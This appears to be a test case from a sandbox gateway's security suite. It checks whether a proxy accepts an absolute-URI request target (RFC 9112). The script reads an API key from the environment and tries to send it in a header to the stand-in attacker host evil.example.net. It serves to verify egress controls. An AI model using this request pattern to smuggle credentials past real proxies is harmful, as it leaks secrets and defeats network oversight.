# /// attack
# guarantee = "network"
# summary = "Asks the gateway for a whole URL."
# reference = "RFC 9112, 3.2.2"
# success = "that server gets the value"
# stage = ["internet", "secret"]
# observe = ["told"]
# needs = ["small-internet"]
# policy = { network = { allow = ["*.example.org:80", "*.example.org:443", "*.example.org:8443", "api.example.com:443", "evil.example.net:443"] } }
# refusal = { default = "proxy expected HOST:PORT" }
# ///

import os

from kit import by_gateway, exchange, has_proxy, head, judge

KEY = f"X-Api-Key: {os.environ['API_KEY']}"
if has_proxy():
    judge(exchange("", head("GET /http://evil.example.net/", "Host: api.example.org", "Connection: close", KEY)))
judge(by_gateway("evil.example.net", "/", KEY))
